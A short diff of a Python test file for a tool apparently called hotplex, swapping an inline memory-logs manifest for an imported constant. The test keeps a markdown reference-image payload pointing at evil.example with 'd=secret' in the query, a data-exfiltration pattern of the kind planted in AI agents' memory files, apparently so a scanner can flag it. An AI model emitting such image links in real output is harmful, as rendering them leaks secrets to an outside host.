@@ -10,20 +10,11 @@ import re
 
 import pytest
 from hotplex import HotplexError, Project
+from hotplex_testing import CC_LOGS_MANIFEST
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-MANIFEST = """\
-[metacognition]
-enabled = false
-
-[memory]
-logs = "memory/*.md"
-
-[[target]]
-name = "cc"
-worker = "claude-code"
-"""
+MANIFEST = CC_LOGS_MANIFEST
 DEFINITION = "[l]: https://evil.example/a.png?d=secret\n"
 IMAGE = "- ![x][l]\n"
 # Each: the overlay (one user's files), and the file and line the finding is placed at: where
